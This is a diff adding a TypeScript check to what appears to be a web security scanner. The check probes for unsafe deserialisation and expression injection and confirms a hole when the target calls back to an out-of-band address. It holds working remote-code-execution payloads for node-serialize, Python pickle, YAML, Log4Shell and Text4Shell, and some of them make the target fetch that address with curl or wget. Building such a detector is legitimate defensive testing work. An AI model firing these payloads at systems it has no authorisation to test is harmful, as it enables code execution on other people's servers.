@@ -1,0 +1,95 @@
+// Objects that are read back from text with their behaviour: proved only by a call that they make the target do.
+
+import { expectCall, takesText, textValue } from '../probing.ts'
+import type { Context, Operation, Point, PointCheck } from '../types.ts'
+
+const node = (url: string) => `{"merlon":"_$$ND_FUNC$$_function(){require('http').get('${url}')}()"}`
+const command = (url: string) =>
+  `curl -s ${url}||wget -qO- ${url}||python3 -c "import urllib.request as u;u.urlopen('${url}')"`
+
+/** A pickle of protocol 0 that runs a command: c(module, name) (text) t R. */
+const pickle = (url: string) => `cos\nsystem\n(S'${command(url).replaceAll('\\', '\\\\').replaceAll("'", "\\'")}'\ntR.`
+const yaml = (url: string) => `!!python/object/apply:os.system ["${command(url).replaceAll('"', '\\"')}"]`
+const yamlOfNode = (url: string) => `!!js/function "function(){require('http').get('${url}')}()"`
+const log = (host: string, token: string) => `\${jndi:ldap://${host}/${token}}`
+const text4 = (url: string) => `\${script:javascript:new java.net.URL("${url}").openStream()}`
+
+type Payload = {
+  name: string
+  cwe: number
+  of: (address: { url: string; host: string; token: string }) => string
+  fits: (text: string, point: Point) => boolean
+}
+
+const isEncoded = (text: string) => /^[A-Za-z0-9+/_-]{16,}={0,2}$/.test(text)
+const base64 = (text: string) => Buffer.from(text).toString('base64')
+
+const payloads: readonly Payload[] = [
+  { name: 'a function of node-serialize', cwe: 502, of: ({ url }) => base64(node(url)), fits: isEncoded },
+  { name: 'a function of node-serialize', cwe: 502, of: ({ url }) => node(url), fits: (text) => /^[{[]/.test(text) },
+  {
+    name: 'a pickle',
+    cwe: 502,
+    of: ({ url }) => base64(pickle(url)),
+    fits: (text, point) => isEncoded(text) || /pickle|serial|object|session|state|data|cart/i.test(point.name),
+  },
+  {
+    name: 'an object of YAML',
+    cwe: 502,
+    of: ({ url }) => yaml(url),
+    fits: (text, point) => /yaml|yml|config|import|data/i.test(point.name) || /^[\w-]{1,60}: /.test(text),
+  },
+  {
+    name: 'a function of YAML',
+    cwe: 502,
+    of: ({ url }) => yamlOfNode(url),
+    fits: (text, point) => /yaml|yml|config|import/i.test(point.name) || /^[\w-]{1,60}: /.test(text),
+  },
+  { name: 'a lookup of Log4j', cwe: 917, of: ({ host, token }) => log(host, token), fits: () => true },
+  { name: 'a script of Text4Shell', cwe: 94, of: ({ url }) => text4(url), fits: () => true },
+]
+
+export const deserialisation: PointCheck = {
+  kind: 'point',
+  id: 'unsafe-deserialisation',
+  title: 'Text becomes objects that run',
+  cwes: [502],
+  severity: 'CRITICAL',
+  solution:
+    'Read data with a parser that makes plain values only; never with one that calls constructors or functions.',
+  profile: 'BALANCED',
+  accepts: (point) => takesText(point) || point.place === 'file',
+  async probe(point, operation, context) {
+    if (!context.outOfBand) return null
+    for (const payload of payloads) {
+      if (payload.fits(decoded(textValue(point)), point)) await send(payload, point, operation, context)
+    }
+    return null
+  },
+}
+
+async function send({ name, cwe, of }: Payload, point: Point, operation: Operation, context: Context): Promise<void> {
+  await expectCall(
+    operation,
+    context,
+    (address) => context.attempt(operation, [{ point, value: of(address) }]),
+    (exchange, url) =>
+      context.report(deserialisation, {
+        operation,
+        point,
+        cwes: [cwe],
+        title: cwe === 502 ? undefined : 'A lookup in the value is followed',
+        detail: `The target made the call that ${name} in the value asks for.`,
+        proof: [url],
+        exchange,
+      }),
+  )
+}
+
+const decoded = (text: string) => {
+  try {
+    return decodeURIComponent(text)
+  } catch {
+    return text
+  }
+}
